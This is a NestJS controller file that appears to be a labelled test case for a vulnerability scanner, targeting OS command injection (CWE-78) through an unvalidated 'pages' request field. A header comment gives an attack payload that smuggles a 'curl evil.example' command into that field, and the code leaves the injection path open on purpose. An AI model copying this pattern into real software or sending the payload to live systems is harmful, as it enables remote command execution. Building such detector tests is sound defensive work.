// weakness: CWE-78 OS command injection
// features: two files, constructor, declared type, decorator
// attack: POST {"pages":"1; curl evil.example"} : "pages: number" of the DTO is not checked at run time
// expect: print.service.ts:12 CWE-78
import { Body, Controller, HttpCode, Post } from '@nestjs/common';
import { PrintService } from './print.service';

@Controller('print')
export class PrintController {
  constructor(private readonly service: PrintService) {}

  @Post()
  @HttpCode(202)
  async print(@Body('pages') pages: number): Promise<{ queued: boolean }> {
    const queued = await this.service.print(pages);
    return { queued };
  }
}
